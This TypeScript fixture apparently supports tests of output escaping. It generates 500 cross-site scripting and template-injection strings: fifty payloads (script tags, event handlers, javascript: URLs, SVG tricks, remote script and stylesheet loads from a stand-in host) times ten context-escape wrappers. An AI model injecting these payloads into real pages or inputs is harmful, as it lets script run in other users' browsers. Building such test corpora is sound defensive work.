/**
 * 500 texts that would act if any screen took them for markup, an address or an expression: 50 ways
 * to act, each in ten ways to get out of where text stands. Acting sets `window.pwned` or asks
 * another host.
 */
const ELSEWHERE = 'http://127.0.0.1:9'
const ACT = 'window.pwned=1'

const ACTS: readonly string[] = [
  `<script>${ACT}</script>`,
  `<script src=${ELSEWHERE}/x.js></script>`,
  `<SCRIPT/XSS>${ACT}</SCRIPT>`,
  `<img src=x onerror=${ACT}>`,
  `<img src=${ELSEWHERE}/i.png>`,
  `<image/src=x onerror=${ACT}>`,
  `<img srcset="${ELSEWHERE}/s.png 2x">`,
  `<svg onload=${ACT}>`,
  `<svg/onload=${ACT}//`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${ACT}>#x"/>`,
  `<svg><foreignObject><iframe src=${ELSEWHERE}>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${ACT}">x`,
  `<iframe src="javascript:${ACT}">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<iframe src=${ELSEWHERE}/f>`,
  `<object data="javascript:${ACT}">`,
  `<embed src=${ELSEWHERE}/e.swf>`,
  `<body onload=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<video><source onerror=${ACT}>`,
  `<video poster=${ELSEWHERE}/p.png>`,
  `<audio src=x onerror=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<select autofocus onfocus=${ACT}>`,
  `<textarea autofocus onfocus=${ACT}>`,
  `<marquee onstart=${ACT}>x</marquee>`,
  `<div style="background:url(${ELSEWHERE}/b.png)">`,
  `<div onpointerenter=${ACT}>x</div>`,
  `<a href="javascript:${ACT}">tıkla</a>`,
  `<a href="data:text/html,<script>${ACT}</script>">Ödeme</a>`,
  `<a href=${ELSEWHERE} ping=${ELSEWHERE}>x</a>`,
  `<form action="javascript:${ACT}"><button>x`,
  `<button formaction="javascript:${ACT}">x`,
  `<isindex action="javascript:${ACT}">`,
  `<base href=${ELSEWHERE}/>`,
  `<link rel=stylesheet href=${ELSEWHERE}/s.css>`,
  `<link rel=prefetch href=${ELSEWHERE}/p>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<style>@import '${ELSEWHERE}/i.css';</style>`,
  `<style>*{background:url(${ELSEWHERE}/u)}</style>`,
  `<template><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `{{constructor.constructor('${ACT}')()}}`,
  `\${${ACT}}`,
  `#{${ACT}}`,
  `javascript:${ACT}`,
  `{{=<% %>=}}<script>${ACT}</script>`,
  `<x-y is=z onclick=${ACT} tabindex=0 autofocus onfocus=${ACT}>`,
]

/** Each says its own number, so that every text is another one. */
const WAYS: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) => `">${act}`,
  (act) => `'>${act}`,
  (act) => `</textarea></title></style>${act}`,
  (act) => `-->${act}<!--`,
  (act) => `]]>${act}`,
  (act) => `Şahin & Oğlu ${act} A.Ş.`,
  (act) => `&nbsp;${act.replaceAll('<', '&lt;').replaceAll('>', '&#62;')}`,
  (act) => `\\u003c${act.replaceAll('<', '\\x3c')}`,
  (act) => `\uff1cb>${act.replaceAll('<', '\uff1c').replace('onerror', 'ONERROR')}`,
]

export const CORPUS: readonly string[] = WAYS.flatMap((way) => ACTS.map((act) => way(act)))

/** A text of the corpus for the n-th place, short enough for it. */
export function hostile(n: number, max = 500): string {
  for (let i = 0; i < CORPUS.length; i += 1) {
    const text = CORPUS[(n * 7 + i) % CORPUS.length] ?? ''
    if (text.length <= max) return text
  }
  throw new Error(`no text of at most ${max} characters`)
}
